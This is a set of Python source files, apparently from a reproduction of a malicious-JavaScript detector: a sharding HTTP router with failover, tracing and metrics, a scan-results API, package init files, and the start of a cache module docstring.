        await asyncio.gather(*(scrape(shard_id, spec) for shard_id, spec in shards.items()))
        # The router's own registry snapshots into the same ring, so SLOs
        # are judged at the front door — where the client experience is.
        self._m_uptime.set(round(time.time() - self.started_at, 3))
        self.timeseries.append("router", parse_exposition(self.metrics.render()))
        self.slo_status = self.slo.evaluate(self.timeseries, "router")
        self.last_scrape_at = time.time()

    # ------------------------------------------------------------ connections

    async def _on_connection(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                try:
                    request = await read_request(reader, self.config.max_body_bytes)
                except ProtocolError as error:
                    writer.write(protocol_error_response(error))
                    await writer.drain()
                    break
                except (asyncio.IncompleteReadError, ConnectionError):
                    break
                if request is None:
                    break
                started = time.perf_counter()
                response, keep_alive = await self._route(request)
                self._m_latency.observe(
                    time.perf_counter() - started, trace_id=request.trace_id_hint
                )
                writer.write(response)
                await writer.drain()
                if not keep_alive or not request.keep_alive:
                    break
        except (ConnectionError, asyncio.CancelledError):
            pass
        finally:
            with contextlib.suppress(Exception):
                writer.close()
                await writer.wait_closed()

    def _count_request(self, method: str, path: str, status: int) -> None:
        key = (method, path, status)
        counter = self._m_requests.get(key)
        if counter is None:
            counter = self.metrics.counter(
                "repro_http_requests_total",
                "HTTP requests by method, path, and status",
                labels={"method": method, "path": path, "status": str(status)},
            )
            self._m_requests[key] = counter
        counter.inc()

    def _count_deprecated(self, path: str) -> None:
        counter = self._m_deprecated.get(path)
        if counter is None:
            counter = self.metrics.counter(
                "repro_http_deprecated_requests_total",
                "Requests on unprefixed legacy paths (deprecation aliases of /v1)",
                labels={"path": path},
            )
            self._m_deprecated[path] = counter
        counter.inc()

    def _ok(self, request: Request, payload: dict, status: int = 200,
            extra_headers: dict[str, str] | None = None) -> tuple[int, bytes]:
        if request.api == "v1":
            return status, v1_response(status, payload, extra_headers=extra_headers)
        return status, json_response(status, payload, extra_headers=extra_headers)

    def _err(self, request: Request, status: int, message: str, detail: dict | None = None,
             extra_headers: dict[str, str] | None = None) -> tuple[int, bytes]:
        if request.api == "v1":
            parent = SpanContext.parse(request.traceparent)
            return status, v1_error_response(
                status, message, detail=detail, extra_headers=extra_headers,
                trace_id=parent.trace_id if parent else None,
            )
        return status, error_response(status, message, extra_headers=extra_headers)

    def _brownout(self, request: Request, message: str) -> tuple[int, bytes]:
        self._m_brownouts.inc()
        return self._err(
            request, 503, message,
            detail={"state": "brownout", "shards": self.supervisor.snapshot()},
            extra_headers={"Retry-After": str(self.config.retry_after_s)},
        )

    # ---------------------------------------------------------------- routing

    async def _route(self, request: Request) -> tuple[bytes, bool]:
        request.api, logical = split_api_path(request.path)
        deprecated = request.api == "legacy" and is_legacy_alias(logical)
        try:
            if request.method == "POST" and logical == "/scan":
                status, response = await self._handle_scan(request, logical)
            elif request.method == "POST" and logical == "/scan/batch":
                status, response = await self._handle_scan_batch(request, logical)
            elif request.method == "POST" and logical == "/analyze":
                status, response = await self._handle_forward_any(request, logical)
            elif request.method == "POST" and logical == "/admin/reload" and request.api == "v1":
                status, response = await self._handle_admin_reload(request)
            elif request.method == "GET" and logical == "/healthz":
                status, response = await self._handle_healthz(request)
            elif request.method == "GET" and logical == "/version":
                status, response = await self._handle_version(request)
            elif request.method == "GET" and logical == "/metrics":
                status, response = await self._handle_metrics(request)
            elif request.method == "GET" and logical == "/status" and request.api == "v1":
                status, response = await self._handle_status(request)
            elif request.method == "GET" and logical == "/debug/prof" and request.api == "v1":
                status, response = await self._handle_prof(request)
            elif request.method == "GET" and logical.rstrip("/") == "/debug/traces":
                status, response = await self._handle_traces_list(request)
            elif request.method == "GET" and logical.startswith("/debug/traces/"):
                status, response = await self._handle_trace_get(request, logical)
            else:
                status, response = self._err(
                    request, 404, f"no route for {request.method} {request.path}"
                )
        except ProtocolError as error:
            status, response = self._err(request, error.status, error.message)
        except Exception as error:
            status, response = self._err(
                request, 500, f"internal error: {type(error).__name__}: {error}"
            )
        if deprecated:
            self._count_deprecated(logical)
            response = _inject_headers(response, deprecation_headers(logical))
        self._count_request(request.method, request.path, status)
        return response, status < 500 or status == 503

    # ------------------------------------------------------------- forwarding

    def _shard_path(self, request: Request, logical: str) -> str:
        """Forward on the surface the client chose — bodies pass through
        verbatim, so a legacy client gets legacy bytes back."""
        return (V1_PREFIX + logical) if request.api == "v1" else logical

    async def _forward_once(
        self, shard_id: str, request: Request, logical: str, body: bytes | None = None
    ) -> Response:
        spec = self.supervisor.shards[shard_id]
        headers = {}
        if request.traceparent:
            headers["traceparent"] = request.traceparent
        self._count_forwarded(shard_id)
        return await fetch(
            spec.host, spec.port, request.method, self._shard_path(request, logical),
            body=request.body if body is None else body,
            headers=headers, timeout_s=self.config.request_timeout_s,
        )

    def _passthrough(self, shard_id: str, response: Response) -> tuple[int, bytes]:
        """Re-render one shard response for the client, stamping ``X-Shard``."""
        headers = {
            name: value for name, value in response.headers.items() if name not in _HOP_HEADERS
        }
        headers["X-Shard"] = shard_id
        return response.status, render_response(
            response.status,
            response.body,
            content_type=response.headers.get("content-type", "application/json"),
            extra_headers=headers,
        )

    def _candidates(self, key: str | None) -> list[str]:
        """Who may serve this request, in order.

        Keyed requests get their slot's replica set — primary first, then
        the deterministic failover replicas — with members the supervisor
        already knows are down subset out.  Keyless endpoints round-robin
        over the healthy fleet.
        """
        unhealthy = self.supervisor.unhealthy
        order = (
            self.ring.replicas(key, self.config.replicas)
            if key is not None
            else self._round_robin_order()
        )
        return [shard_id for shard_id in order if shard_id not in unhealthy]

    async def _forward_with_retries(
        self, request: Request, logical: str, key: str | None, body: bytes | None = None
    ) -> tuple[int, bytes, str | None]:
        """The failover loop every forwarded request goes through.

        Walks the key's replica set (or round-robin for keyless
        endpoints).  Retryable faults advance to the next replica —
        counted in ``repro_router_failovers_total{reason}`` — anything
        else is the answer.  An exhausted candidate list is a brownout:
        every copy of this key's slot is gone.
        """
        candidates = self._candidates(key)
        for attempt, shard_id in enumerate(candidates):
            if attempt > 0:
                self._m_retries.inc()
            error: BaseException | None = None
            response: Response | None = None
            try:
                response = await self._forward_once(shard_id, request, logical, body=body)
            except asyncio.CancelledError:
                raise
            except Exception as caught:
                error = caught
            fault = classify_shard_fault(error, response.status if response else None)
            if fault.suspect:
                self.supervisor.mark_suspect(shard_id)
            if not fault.retryable and response is not None:
                status, rendered = self._passthrough(shard_id, response)
                return status, rendered, shard_id
            self.log.warning(
                "shard fault",
                extra={"shard": shard_id, "cause": fault.cause, "detail": fault.detail},
            )
            if attempt + 1 < len(candidates):
                self._m_failovers[fault.cause].inc()
        status, rendered = self._brownout(request, "no replica available for this request")
        return status, rendered, None

    def _round_robin_order(self) -> list[str]:
        members = self.ring.members
        if not members:
            return []
        self._rr = (self._rr + 1) % len(members)
        return members[self._rr :] + members[: self._rr]

    # --------------------------------------------------------------- handlers

    @staticmethod
    def _scan_options(payload: dict) -> tuple | None:
        """Canonical cache key for everything in a scan request that is
        not the source itself.  ``None`` (unserializable payload) means
        the request bypasses the cache."""
        try:
            options = json.dumps(
                {k: v for k, v in payload.items() if k != "source"}, sort_keys=True
            )
        except (TypeError, ValueError):
            return None
        return (options,)

    async def _handle_scan(self, request: Request, logical: str) -> tuple[int, bytes]:
        payload = request.json()
        if not isinstance(payload, dict):
            raise ProtocolError(400, "request body must be a JSON object")
        source = payload.get("source")
        if not isinstance(source, str):
            raise ProtocolError(400, 'missing or non-string "source" field')
        key = content_key(source)
        options = self._scan_options(payload)
        parent = SpanContext.parse(request.traceparent)
        # A caller that explicitly asked for this request to be traced
        # (sampled traceparent) must take the full router → shard path —
        # a cached answer has no span tree to offer.  The fresh verdict
        # still refreshes the cache on the way out.
        traced = parent is not None and parent.sampled
        if options is not None and not traced:
            cached = self.verdicts.get(key, options)
            if cached is not None:
                data, served_by = cached
                body = dict(data)
                # The stored verdict belongs to an earlier request's trace.
                body["trace_id"] = None
                return self._ok(request, body, extra_headers={
                    "X-Shard": served_by, "X-Router-Cache": "hit",
                })
        root = self.tracer.start_trace(
            "router.scan",
            parent=SpanContext.parse(request.traceparent),
            attributes={"method": request.method, "path": request.path},
        )
        with root:
            if root.recording:
                # Hand the shard *our* context so its span tree lands under
                # this trace id (the shard always records a sampled parent).
                request.headers["traceparent"] = root.context.to_traceparent()
                request.trace_id_hint = root.context.trace_id
            status, rendered, shard_id = await self._forward_with_retries(
                request, logical, key
            )
            root.set_attribute("status", status)
            if status >= 500:
                root.set_status("error", f"answered {status}")
            if status == 200 and shard_id is not None and options is not None:
                try:
                    entry = self._unwrap(request, rendered)
                except (ValueError, KeyError):
                    entry = None
                if isinstance(entry, dict):
                    entry = dict(entry)
                    entry.pop("trace", None)  # per-request, never replayed
                    self.verdicts.put(key, options, entry, shard_id)
        return status, rendered

    async def _handle_scan_batch(self, request: Request, logical: str) -> tuple[int, bytes]:
        payload = request.json()
        if not isinstance(payload, dict):
            raise ProtocolError(400, "request body must be a JSON object")
        scripts = payload.get("scripts")
        if not isinstance(scripts, list) or not scripts:
            raise ProtocolError(400, '"scripts" must be a non-empty array')
        sources: list[str] = []
        for index, entry in enumerate(scripts):
            if isinstance(entry, str):
                sources.append(entry)
            elif isinstance(entry, dict) and isinstance(entry.get("source"), str):
                sources.append(entry["source"])
            else:
                raise ProtocolError(
                    400, f'scripts[{index}] must be a string or an object with a "source" string'
                )

        root = self.tracer.start_trace(
            "router.scan_batch",
            parent=SpanContext.parse(request.traceparent),
            attributes={"n_scripts": len(scripts)},
        )
        with root:
            if root.recording:
                request.headers["traceparent"] = root.context.to_traceparent()
                request.trace_id_hint = root.context.trace_id
            # Group by owning replica; each sub-batch is one upstream request.
            groups: dict[str, list[int]] = {}
            for index, source in enumerate(sources):
                owner = self._replica_owner(content_key(source))
                if owner is None:
                    return self._brownout(request, "no replica available for this batch")
                groups.setdefault(owner, []).append(index)
            root.set_attribute("n_shards", len(groups))

            async def run_group(shard_id: str, indices: list[int]) -> tuple[list[int], int, bytes]:
                sub = {"scripts": [scripts[i] for i in indices]}
                if "threshold" in payload:
                    sub["threshold"] = payload["threshold"]
                body = json.dumps(sub).encode("utf-8")
                # Sub-batches keep affinity via their first key but may fail
                # over along its replica set — correctness over affinity.
                status, rendered, _served_by = await self._forward_with_retries(
                    request, logical, content_key(sources[indices[0]]), body=body
                )
                return indices, status, rendered

            settled = await asyncio.gather(
                *(run_group(shard_id, indices) for shard_id, indices in groups.items())
            )
            # Any sub-batch failure fails the batch with that sub-answer
            # (the client's retry semantics stay identical to one daemon).
            for _indices, status, rendered in settled:
                if status != 200:
                    return status, rendered
            merged: list[dict | None] = [None] * len(scripts)
            fingerprint = None
            threshold = payload.get("threshold")
            for indices, _status, rendered in settled:
                data = self._unwrap(request, rendered)
                fingerprint = data.get("model_fingerprint", fingerprint)
                if threshold is None:
                    threshold = data.get("threshold")
                for position, result in zip(indices, data["results"]):
                    merged[position] = result
            body_out = {
                "n_files": len(merged),
                "n_malicious": sum(1 for r in merged if r and r.get("malicious")),
                "threshold": threshold,
                "model_fingerprint": fingerprint,
                "trace_id": root.context.trace_id,
                "results": merged,
            }
        return self._ok(request, body_out, extra_headers={
            "X-Trace-Id": root.context.trace_id,
            "traceparent": root.context.to_traceparent(),
        })

    def _unwrap(self, request: Request, rendered: bytes) -> dict:
        """Pull the JSON payload back out of a passthrough-rendered response."""
        _head, _sep, body = rendered.partition(b"\r\n\r\n")
        payload = json.loads(body.decode("utf-8"))
        if request.api == "v1":
            return payload["data"]
        return payload

    def _replica_owner(self, key: str) -> str | None:
        """First live member of the key's replica set (batch grouping)."""
        for shard_id in self._candidates(key):
            return shard_id
        return None

    async def _handle_forward_any(self, request: Request, logical: str) -> tuple[int, bytes]:
        status, rendered, _served_by = await self._forward_with_retries(request, logical, None)
        return status, rendered

    async def _handle_admin_reload(self, request: Request) -> tuple[int, bytes]:
        payload = request.json()
        if not isinstance(payload, dict):
            raise ProtocolError(400, "request body must be a JSON object")
        model_dir = payload.get("model_dir")
        if not isinstance(model_dir, str) or not model_dir:
            raise ProtocolError(400, 'missing or non-string "model_dir" field')
        try:
            rolled = await self.supervisor.rolling_reload(
                model_dir, ring=self.ring, replicas=self.config.replicas
            )
        except Exception as error:
            # Even a failed roll may have reloaded some shards — stale
            # verdicts must not outlive the model that produced them.
            epoch = self.verdicts.bump_epoch()
            return self._err(
                request, 400,
                f"rolling reload failed: {type(error).__name__}: {error}",
                detail={
                    "model_dir": model_dir,
                    "cache_epoch": epoch,
                    "shards": self.supervisor.snapshot(),
                },
            )
        epoch = self.verdicts.bump_epoch()
        return self._ok(request, {
            "status": "reloaded",
            "model_dir": model_dir,
            "cache_epoch": epoch,
            "shards": rolled,
        })

    async def _handle_healthz(self, request: Request) -> tuple[int, bytes]:
        shards = self.supervisor.snapshot()
        healthy = sum(1 for shard in shards if shard["healthy"])
        payload = {
            "status": "ok" if healthy == len(shards) else ("degraded" if healthy else "down"),
            "role": "router",
            "n_shards": len(shards),
            "n_healthy": healthy,
            "replicas": self.config.replicas,
            "uptime_s": round(time.time() - self.started_at, 3),
            "verdict_cache": {
                "size": len(self.verdicts),
                "capacity": self.verdicts.capacity,
                "epoch": self.verdicts.epoch,
            },
            "shards": shards,
        }
        return self._ok(request, payload)

    async def _handle_version(self, request: Request) -> tuple[int, bytes]:
        from repro import __version__

        return self._ok(request, {
            "service": "repro.serve.router",
            "version": __version__,
            "n_shards": self.supervisor.n_shards,
            "config": {
                "request_timeout_s": self.config.request_timeout_s,
                "max_body_bytes": self.config.max_body_bytes,
                "vnodes": self.config.vnodes,
                "replicas": self.config.replicas,
                "verdict_cache_size": self.config.verdict_cache_size,
            },
        })

    async def _handle_metrics(self, request: Request) -> tuple[int, bytes]:
        self._m_uptime.set(round(time.time() - self.started_at, 3))
        mode = request.query.get("aggregate")
        if mode is None:
            body = self.metrics.render().encode("utf-8")
        elif mode in AGGREGATE_MODES:
            # The router's own families join the merge fresh — never a
            # scrape-interval stale — under the member name "router".
            extra = {"router": parse_exposition(self.metrics.render())}
            body = self.fleet.render(mode, extra=extra).encode("utf-8")
        else:
            raise ProtocolError(
                400, f'"aggregate" must be one of {", ".join(AGGREGATE_MODES)}'
            )
        return 200, render_response(200, body, content_type=MetricsRegistry.CONTENT_TYPE)

    def _shard_stats(self, shard_id: str) -> dict:
        """One fleet member's windowed numbers for /v1/status and `repro top`."""
        window = self.config.slo_fast_window_s
        rps = self.timeseries.counter_rate(shard_id, "repro_http_requests_total", window)
        p95 = self.timeseries.quantile(shard_id, "repro_http_request_seconds", 0.95, window)
        hits = self.timeseries.counter_delta(
            shard_id, "repro_cache_lookups_total", window, where={"result": "hit"}
        )
        lookups = self.timeseries.counter_delta(shard_id, "repro_cache_lookups_total", window)
        latest = self.timeseries.latest(shard_id)
        queue_depth = breaker = None
        if latest is not None:
            family = latest.families.get("repro_serve_queue_depth")
            queue_depth = family.value() if family else None
            family = latest.families.get("repro_breaker_state")
            breaker = family.value() if family else None
        return {
            "rps": round(rps, 3) if rps is not None else None,
            "p95_ms": round(p95 * 1000.0, 3) if p95 is not None else None,
            "queue_depth": queue_depth,
            "cache_hit_ratio": round(hits / lookups, 4) if hits is not None and lookups else None,
            "breaker_state": breaker,
            "last_scrape_unix": round(latest.ts, 3) if latest is not None else None,
        }

    async def _handle_status(self, request: Request) -> tuple[int, bytes]:
        """The fleet's one pane of glass: shards + SLOs + control posture."""
        shards = self.supervisor.snapshot()
        healthy = sum(1 for shard in shards if shard["healthy"])
        fleet = []
        for shard in shards:
            entry = dict(shard)
            entry.update(self._shard_stats(shard["shard"]))
            fleet.append(entry)
        window = self.config.slo_fast_window_s
        router_rps = self.timeseries.counter_rate("router", "repro_http_requests_total", window)
        router_p95 = self.timeseries.quantile(
            "router", "repro_router_request_seconds", 0.95, window
        )
        autoscale = None
        if callable(self.autoscale_status):
            autoscale = self.autoscale_status()
        scrape_errors = 0.0
        for counter in self._m_scrape_errors.values():
            scrape_errors += counter.value  # type: ignore[attr-defined]
        payload = {
            "status": "ok" if healthy == len(shards) else ("degraded" if healthy else "down"),
            "role": "router",
            "uptime_s": round(time.time() - self.started_at, 3),
            "router": {
                "rps": round(router_rps, 3) if router_rps is not None else None,
                "p95_ms": round(router_p95 * 1000.0, 3) if router_p95 is not None else None,
                "verdict_cache": {
                    "size": len(self.verdicts),
                    "capacity": self.verdicts.capacity,
                    "epoch": self.verdicts.epoch,
                },
            },
            "n_shards": len(shards),
            "n_healthy": healthy,
            "fleet": fleet,
            "slo": [status.to_dict() for status in self.slo_status],
            "autoscale": autoscale,
            "crash_loops": {
                "parked": [shard["shard"] for shard in shards if shard["state"] == "parked"],
                "restarts": sum(shard["restarts"] for shard in shards),
            },
            "scrape": {
                "interval_s": self.config.scrape_interval_s,
                "last_scrape_unix": (
                    round(self.last_scrape_at, 3) if self.last_scrape_at is not None else None
                ),
                "errors_total": scrape_errors,
                "members": self.fleet.members,
            },
        }
        return self._ok(request, payload)

    async def _handle_prof(self, request: Request) -> tuple[int, bytes]:
        try:
            seconds = float(request.query.get("seconds", "1"))
            hz = float(request.query["hz"]) if "hz" in request.query else None
        except ValueError as error:
            raise ProtocolError(400, '"seconds" and "hz" must be numbers') from error
        if seconds <= 0 or (hz is not None and hz <= 0):
            raise ProtocolError(400, '"seconds" and "hz" must be positive')
        loop = asyncio.get_running_loop()
        report = await loop.run_in_executor(
            None, lambda: self.profiler.profile(seconds, hz=hz)
        )
        return 200, render_response(
            200, report.collapsed().encode("utf-8"), content_type="text/plain; charset=utf-8"
        )

    async def _handle_traces_list(self, request: Request) -> tuple[int, bytes]:
        filters = trace_list_query(request)
        payload = {
            "traces": self.traces.list(
                max(1, min(filters["n"], self.traces.capacity)),
                slow_ms=filters["slow_ms"],
                status=filters["status"],
            ),
            "stored": self.traces.stored,
            "evicted": self.traces.evicted,
            "sample_rate": self.config.trace_sample_rate,
        }
        return self._ok(request, payload)

    async def _handle_trace_get(self, request: Request, logical: str) -> tuple[int, bytes]:
        """One merged cross-process trace: router spans + every shard's.

        The router's hop and each shard's hop were recorded under the
        same trace id (propagated ``traceparent``); this endpoint is
        where they come back together.
        """
        trace_id = logical.rstrip("/").rsplit("/", 1)[-1]
        record = self.traces.get(trace_id)
        merged_spans = list(record["spans"]) if record else []
        shard_records: dict[str, dict] = {}
        for shard_id, spec in sorted(self.supervisor.shards.items()):
            try:
                response = await fetch(
                    spec.host, spec.port, "GET", f"{V1_PREFIX}/debug/traces/{trace_id}",
                    timeout_s=5.0,
                )
            except Exception:
                continue
            if response.status != 200:
                continue
            try:
                envelope = json.loads(response.body.decode("utf-8"))
                shard_record = envelope.get("data") or {}
            except ValueError:
                continue
            shard_records[shard_id] = shard_record
            for span in shard_record.get("spans", []):
                span = dict(span)
                span.setdefault("attributes", {})
                span["attributes"]["shard"] = shard_id
                merged_spans.append(span)
        if not merged_spans:
            return self._err(
                request, 404, f"trace {trace_id!r} not found (expired or unsampled)"
            )
        from repro.obs.trace import span_tree

        payload = {
            "trace_id": trace_id,
            "n_spans": len(merged_spans),
            "router": {k: v for k, v in (record or {}).items() if k not in ("spans", "tree")},
            "shards": sorted(shard_records),
            "spans": merged_spans,
            "tree": span_tree(merged_spans),
        }
        return self._ok(request, payload)
