"""Structured scan results: the user-facing API of the batch engine.

``JSRevealer.predict`` returns a bare label array — fine for experiments,
but a deployment wants to know *per file* what the verdict was, how
confident the model is, whether the cached embedding was reused, and where
the time went (Table VIII's per-stage accounting).  :class:`ScanResult`
carries that per file; :class:`ScanReport` aggregates a whole batch and
round-trips through JSON for machine consumption (CLI ``--format json``).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

import numpy as np

#: Stage keys reported per scan (Table VIII naming, plus the triage
#: analysis stage which is 0 unless a triage analyzer is configured and
#: the deobfuscation pre-pass which appears only when enabled).
STAGE_KEYS = (
    "deobfuscate",
    "analysis",
    "path_extraction",
    "embedding",
    "feature_transform",
    "classifying",
)

#: Per-script result statuses (DESIGN.md §9 state machine):
#:
#: * ``ok`` — full pipeline verdict,
#: * ``parse_error`` — unparseable/too-deep source; classified on an empty
#:   path set (informational, the verdict is still a real classifier run),
#: * ``timeout`` / ``oom`` / ``crashed`` — the script faulted its isolated
#:   worker; the verdict (if any) is a *degraded* triage-only one.
STATUS_OK = "ok"
STATUS_PARSE_ERROR = "parse_error"
STATUS_TIMEOUT = "timeout"
STATUS_OOM = "oom"
STATUS_CRASHED = "crashed"
RESULT_STATUSES = (STATUS_OK, STATUS_TIMEOUT, STATUS_OOM, STATUS_CRASHED, STATUS_PARSE_ERROR)

#: Statuses meaning "this script took its worker down" — what the daemon's
#: circuit breaker and the quarantine journal count.
FAULT_STATUSES = (STATUS_TIMEOUT, STATUS_OOM, STATUS_CRASHED)


@dataclass
class ScanResult:
    """Verdict and accounting for one scanned script."""

    path: str
    label: int  # classifier decision: 1 = malicious, 0 = benign
    probability: float  # P(malicious)
    malicious: bool  # thresholded verdict (CLI --threshold)
    path_count: int  # extracted path contexts (pre-cap)
    cache_hit: bool
    #: Per-file cost of the per-script stages, in milliseconds.  Cache hits
    #: carry zeros — nothing was extracted or embedded for them.
    stage_ms: dict[str, float] = field(default_factory=dict)
    #: True when a decisive static-analysis rule settled the verdict and
    #: the embed/classify pipeline was skipped for this file.
    triaged: bool = False
    #: Serialized :class:`~repro.analysis.AnalysisReport` when the scan ran
    #: with a triage analyzer (or produced a degraded verdict); ``None``
    #: otherwise.
    analysis: dict | None = None
    #: One of :data:`RESULT_STATUSES`; anything in :data:`FAULT_STATUSES`
    #: means the script was quarantined and this verdict is degraded at best.
    status: str = STATUS_OK
    #: True when the verdict came from the triage-only rule engine because
    #: the full pipeline faulted on this script (``probability`` is then the
    #: analysis suspicion score, 1.0 for decisive rule hits).
    degraded: bool = False
    #: Fault envelope for non-``ok``/``parse_error`` statuses: cause,
    #: detail, stage, worker rusage, and whether the script was already
    #: quarantined by an earlier scan.
    fault: dict | None = None
    #: Trace + provenance envelope when the scan was traced (``scan
    #: --trace`` / sampled daemon request): ``trace_id``, ``span_id``, the
    #: file's span subtree, and a ``provenance`` dict (decisive rule ids,
    #: top attention paths, cluster feature weights).  ``None`` — and
    #: *omitted* from :meth:`to_dict`, keeping untraced output
    #: byte-identical — when tracing was off or sampled out.
    trace: dict | None = None
    #: Serialized :class:`~repro.deobfuscate.NormalizationReport` when the
    #: deobfuscation pre-pass ran *and* did something worth auditing
    #: (rewrites, degradation, forced-exec activity).  ``None`` — and
    #: omitted from :meth:`to_dict` — otherwise, so clean scripts keep
    #: byte-identical verdicts with the pass enabled.
    normalization: dict | None = None

    @property
    def faulted(self) -> bool:
        return self.status in FAULT_STATUSES

    @property
    def verdict(self) -> str:
        return "malicious" if self.malicious else "benign"

    def to_dict(self) -> dict:
        # Built by hand rather than dataclasses.asdict: asdict deep-copies
        # every nested container, which for traced results means walking
        # the whole span tree — a measurable per-request cost on the serve
        # hot path.  Consumers serialize straight to JSON, so sharing the
        # nested dicts is safe.
        out = {
            "path": self.path,
            "label": self.label,
            "probability": self.probability,
            "malicious": self.malicious,
            "path_count": self.path_count,
            "cache_hit": self.cache_hit,
            "stage_ms": dict(self.stage_ms),
            "triaged": self.triaged,
            "analysis": self.analysis,
            "status": self.status,
            "degraded": self.degraded,
            "fault": self.fault,
        }
        if self.normalization is not None:
            out["normalization"] = self.normalization
        if self.trace is not None:
            out["trace"] = self.trace
        out["verdict"] = self.verdict
        return out

    @classmethod
    def from_dict(cls, data: dict) -> "ScanResult":
        data = dict(data)
        data.pop("verdict", None)
        return cls(**data)


@dataclass
class ScanReport:
    """A whole batch: per-file results plus batch-level accounting."""

    results: list[ScanResult]
    threshold: float = 0.5
    n_workers: int = 1  # requested
    workers_used: int = 1  # actual (pool failures degrade to 1)
    elapsed_ms: float = 0.0
    #: Batch totals per stage (ms).  Extraction/embedding sum the per-file
    #: costs (wall-clock overlaps under the pool); transform/classify are
    #: single-process batch stages.
    stage_ms: dict[str, float] = field(default_factory=dict)
    cache_hits: int = 0
    cache_misses: int = 0
    #: Files whose verdict came from the triage fast-path (decisive rule
    #: fired; extraction/embedding skipped).
    triage_hits: int = 0
    #: Files that faulted the isolation layer this batch (status in
    #: :data:`FAULT_STATUSES`) — what the daemon's circuit breaker counts.
    fault_count: int = 0
    #: Lifetime counters of the backing :class:`FeatureCache`
    #: (hits/misses/disk_hits/evictions/entries) at report time; ``None``
    #: when the scan ran uncached.  Unlike ``cache_hits``/``cache_misses``
    #: (this batch only), these accumulate across every scan the cache served.
    cache_stats: dict[str, int] | None = None
    model_fingerprint: str | None = None
    #: Batch-level trace envelope (``trace_id``, root span id, full span
    #: list) when the scan was traced; ``None`` (and omitted from JSON)
    #: otherwise.
    trace: dict | None = None
    #: Full class-probability matrix, kept for ``predict_proba`` parity;
    #: not serialized (per-file ``probability`` covers the JSON surface).
    probability_matrix: np.ndarray | None = field(default=None, repr=False, compare=False)

    # ----------------------------------------------------------- array views

    @property
    def n_files(self) -> int:
        return len(self.results)

    @property
    def n_malicious(self) -> int:
        return sum(1 for r in self.results if r.malicious)

    @property
    def label_array(self) -> np.ndarray:
        return np.array([r.label for r in self.results], dtype=int)

    @property
    def probabilities(self) -> np.ndarray:
        return np.array([r.probability for r in self.results], dtype=float)

    # ------------------------------------------------------------- serialize

    def to_dict(self) -> dict:
        out = {
            "n_files": self.n_files,
            "n_malicious": self.n_malicious,
            "threshold": self.threshold,
            "n_workers": self.n_workers,
            "workers_used": self.workers_used,
            "elapsed_ms": self.elapsed_ms,
            "stage_ms": dict(self.stage_ms),
            "cache_hits": self.cache_hits,
            "cache_misses": self.cache_misses,
            "triage_hits": self.triage_hits,
            "fault_count": self.fault_count,
            "cache_stats": dict(self.cache_stats) if self.cache_stats is not None else None,
            "model_fingerprint": self.model_fingerprint,
            "results": [r.to_dict() for r in self.results],
        }
        if self.trace is not None:
            out["trace"] = self.trace
        return out

    def to_json(self, indent: int | None = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent)

    @classmethod
    def from_dict(cls, data: dict) -> "ScanReport":
        return cls(
            results=[ScanResult.from_dict(r) for r in data["results"]],
            threshold=data.get("threshold", 0.5),
            n_workers=data.get("n_workers", 1),
            workers_used=data.get("workers_used", 1),
            elapsed_ms=data.get("elapsed_ms", 0.0),
            stage_ms=dict(data.get("stage_ms", {})),
            cache_hits=data.get("cache_hits", 0),
            cache_misses=data.get("cache_misses", 0),
            triage_hits=data.get("triage_hits", 0),
            fault_count=data.get("fault_count", 0),
            cache_stats=data.get("cache_stats"),
            model_fingerprint=data.get("model_fingerprint"),
            trace=data.get("trace"),
        )

    @classmethod
    def from_json(cls, text: str) -> "ScanReport":
        return cls.from_dict(json.loads(text))

    # -------------------------------------------------------------- display

    def summary(self) -> str:
        """One-paragraph human summary (the CLI's trailer line)."""
        per_file = self.elapsed_ms / max(self.n_files, 1)
        parts = [
            f"scanned {self.n_files} files in {self.elapsed_ms / 1000:.2f}s "
            f"({per_file:.1f} ms/file, workers={self.workers_used})"
        ]
        if self.triage_hits:
            parts.append(f"triage fast-path settled {self.triage_hits} files")
        if self.fault_count:
            parts.append(f"{self.fault_count} files faulted and were quarantined")
        if self.cache_hits or self.cache_misses:
            line = f"cache {self.cache_hits} hits / {self.cache_misses} misses"
            if self.cache_stats is not None:
                line += (
                    f" (lifetime {self.cache_stats.get('hits', 0)}h/"
                    f"{self.cache_stats.get('misses', 0)}m, "
                    f"{self.cache_stats.get('evictions', 0)} evictions, "
                    f"{self.cache_stats.get('entries', 0)} entries)"
                )
            parts.append(line)
        stages = ", ".join(
            f"{key}={self.stage_ms[key]:.0f}ms" for key in STAGE_KEYS if key in self.stage_ms
        )
        if stages:
            parts.append(stages)
        return "; ".join(parts)
