"""Throughput layer: parallel batch scanning, embedding cache, result API.

Public surface::

    from repro.pipeline import BatchScanner, FeatureCache, ScanReport, ScanResult

    report = detector.scan_batch(sources, n_workers=4, cache_dir="~/.cache/jsr")
    for result in report.results:
        print(result.verdict, result.probability, result.path)
"""

from .cache import CacheEntry, FeatureCache, content_key
from .results import STAGE_KEYS, ScanReport, ScanResult
from .scanner import BatchScanner

__all__ = [
    "BatchScanner",
    "CacheEntry",
    "FeatureCache",
    "ScanReport",
    "ScanResult",
    "STAGE_KEYS",
    "content_key",
]
