"""Throughput layer: parallel batch scanning, embedding cache, result API.

Public surface::

    from repro.pipeline import BatchScanner, FeatureCache, ScanReport, ScanResult

    report = detector.scan_batch(sources, n_workers=4, cache_dir="~/.cache/jsr")
    for result in report.results:
        print(result.verdict, result.probability, result.path)
"""

from .cache import CACHE_FORMAT_VERSION, CacheEntry, FeatureCache, content_key
from .results import (
    FAULT_STATUSES,
    RESULT_STATUSES,
    STAGE_KEYS,
    STATUS_OK,
    STATUS_PARSE_ERROR,
    ScanReport,
    ScanResult,
)
from .scanner import BatchScanner

__all__ = [
    "BatchScanner",
    "CACHE_FORMAT_VERSION",
    "CacheEntry",
    "FAULT_STATUSES",
    "FeatureCache",
    "RESULT_STATUSES",
    "ScanReport",
    "ScanResult",
    "STAGE_KEYS",
    "STATUS_OK",
    "STATUS_PARSE_ERROR",
    "content_key",
]
