"""Content-addressed cache for embedded path vectors.

Path extraction dominates per-file cost (Table VIII: ~570 of ~900 ms), and
real scanning workloads re-see the same scripts constantly (vendored
libraries, CDN copies, re-crawls).  Both extraction and embedding are pure
functions of (source bytes, embedding parameters), so their output is
cacheable under a content address:

* **key** — SHA-256 of the script source,
* **namespace** — the detector's *model fingerprint* (hash of its saved
  tensors), so a cache can never serve embeddings computed by a different
  or retrained model,
* **value** — the post-cap ``(vectors, weights)`` pair plus the raw path
  count.

Two layers: a bounded in-memory LRU (always on) and an optional on-disk
